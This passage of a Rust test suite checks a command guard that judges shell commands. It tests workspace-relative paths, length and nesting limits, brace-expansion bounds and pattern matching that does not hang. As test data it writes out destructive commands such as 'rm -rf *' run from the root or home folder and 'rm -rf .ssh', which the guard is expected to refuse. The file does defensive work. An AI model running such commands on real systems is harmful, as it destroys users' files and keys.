    assert!(reason.contains("`/srv-keel-test/projects`, which holds the workspace"), "{reason}");
}

#[test]
fn relative_paths_are_judged_from_the_workspace() {
    let home = std::env::var("HOME").unwrap();
    let root = std::path::Path::new("/");
    assert!(guard::check_command_in("rm -rf *", root).is_err());
    assert!(guard::check_command_in("rm -rf .", std::path::Path::new(&home)).is_err());
    let project = tempfile::tempdir().unwrap();
    assert_eq!(guard::check_command_in("rm -rf *", project.path()), Ok(()));
}

#[test]
fn oversized_or_deeply_nested_commands_are_refused_not_crashed_on() {
    const LONGEST: usize = 128 * 1024;
    let at_limit = format!("echo {}", "x".repeat(LONGEST - "echo ".len()));
    assert_eq!(guard::check_command(&at_limit), Ok(()), "a command at the length limit");
    let long = format!("{at_limit}x");
    assert!(guard::check_command(&long).unwrap_err().contains("longer"));
    let siblings = "(true); { true; }; [ -d . ]; ".repeat(40);
    assert_eq!(guard::check_command(&siblings), Ok(()), "groups one after another nest nothing");
    let deep = format!("{}echo{}", "(".repeat(500), ")".repeat(500));
    assert!(guard::check_command(&deep).unwrap_err().contains("deeply"));
}

#[test]
fn brace_expansions_are_followed_to_a_bound_in_all_the_command() {
    // Each `{1..256}` adds 255 words; 4,096 may be added in one command.
    let words = |n: usize| format!("echo {}", "{1..256} ".repeat(n));
    assert_eq!(guard::check_command(&words(16)), Ok(()));
    let reason = guard::check_command(&words(17)).unwrap_err();
    assert!(reason.contains("more than 4096 words") && reason.contains("split"), "{reason}");
    // 16 more words make exactly 4,096, and one more is one too many.
    let at_limit = format!("{} {{1..17}}", words(16));
    assert_eq!(guard::check_command(&at_limit), Ok(()), "4096 words are checked");
    assert!(guard::check_command(&format!("{at_limit} {{1..2}}")).is_err(), "4097 are not");
    let inner = format!("echo \"$({})\"", words(17));
    assert!(guard::check_command(&inner).is_err(), "the bound counts nested commands too");
}

#[test]
fn folders_and_values_are_followed_to_a_bound() {
    let workspace = std::path::Path::new("/srv-keel-test/app");
    let judge = |command: String| guard::check_command_in(&command, workspace);
    // Each `if` may move to a folder of the workspace. `.ssh` is harmless there, and refused
    // where keel cannot follow the folder, since it could be the home folder.
    let moves = |ifs: usize| -> String {
        let moves =
            (0..ifs).map(|i| format!("if [ -e f{i} ]; then cd /srv-keel-test/app/d{i}; fi; "));
        format!("{}rm -rf .ssh", moves.collect::<String>())
    };
    assert_eq!(judge(moves(15)), Ok(()), "16 possible folders are followed");
    assert!(judge(moves(16)).is_err(), "17 are too many");
    // The same for a variable's values: `$D/*` is harmless for each, and `/*` if `D` is unknown.
    let values = |ifs: usize| -> String {
        let sets = (0..ifs).map(|i| format!("if [ -e f{i} ]; then D=d{i}; fi; "));
        format!("D=d; {}rm -rf \"$D\"/*", sets.collect::<String>())
    };
    assert_eq!(judge(values(15)), Ok(()), "16 possible values are followed");
    assert!(judge(values(16)).is_err(), "17 are too many");
}

/// The guard's verdicts on `commands`, judged on a thread of their own; fails with `hung` if they
/// take longer than a minute — far longer than any of these takes when the guard is right.
fn judged_within_a_minute<const N: usize>(
    commands: [String; N],
    hung: &str,
) -> [Result<(), String>; N] {
    const HANG_GUARD: std::time::Duration = std::time::Duration::from_secs(60);
    let (sender, receiver) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = sender.send(commands.map(|command| guard::check_command(&command)));
    });
    receiver.recv_timeout(HANG_GUARD).expect(hung)
}

#[test]
fn a_brace_sequence_of_a_billion_words_is_refused_without_making_them() {
    // Making the words would take minutes and gigabytes; counting them takes nothing.
    let [verdict] =
        judged_within_a_minute(["echo {1..1000000000}".to_owned()], "the guard made every word");
    assert!(verdict.unwrap_err().contains("more than 256 words"));
}

#[test]
fn nesting_at_the_limit_fits_the_stack_and_beyond_it_is_refused() {
    // Test threads have the same 2 MiB stack as the runtime's workers. Brackets and blocks nest
    // 32 deep at most; commands run by `$(…)`, `bash -c` and the like, 12.
    let (blocks, scripts) = (32, 12);
    let ifs = |n: usize| format!("{}:{}", "if true; then ".repeat(n), "; fi".repeat(n));
    let parens = |n: usize| format!("{}echo{}", "(".repeat(n), ")".repeat(n));
    let substitutions = |n: usize| format!("echo {}x{}", "\"$(echo ".repeat(n), ")\"".repeat(n));
    let mixed = |n: usize| format!("{}:{}", "if true; then { ".repeat(n), "; }; fi".repeat(n));
    for (name, at_limit, one_more, beyond) in [
        ("if", ifs(blocks), ifs(blocks + 1), ifs(300)),
        ("parentheses", parens(blocks), parens(blocks + 1), parens(500)),
        ("substitutions", substitutions(scripts), substitutions(scripts + 1), substitutions(300)),
        ("mixed", mixed(blocks / 2), mixed(blocks / 2 + 1), mixed(200)),
    ] {
        assert_eq!(guard::check_command(&at_limit), Ok(()), "{name} at the limit");
        assert!(guard::check_command(&one_more).is_err(), "{name} one past the limit");
        assert!(guard::check_command(&beyond).is_err(), "{name} beyond the limit was not refused");
    }
}

#[test]
fn patterns_with_many_stars_are_judged_without_hanging() {
    // A backtracking matcher takes longer than a minute on these than the universe has had.
    let [everything, nothing] = judged_within_a_minute(
        [format!("rm -rf /{}", "*".repeat(2000)), format!("rm -rf /{}", "*a".repeat(2000))],
        "the guard hung on a pattern of many stars",
    );
    assert!(everything.is_err(), "`/***…` matches every system folder");
    assert_eq!(nothing, Ok(()), "`/*a*a…` with 2000 `a`s names no folder that exists");
}
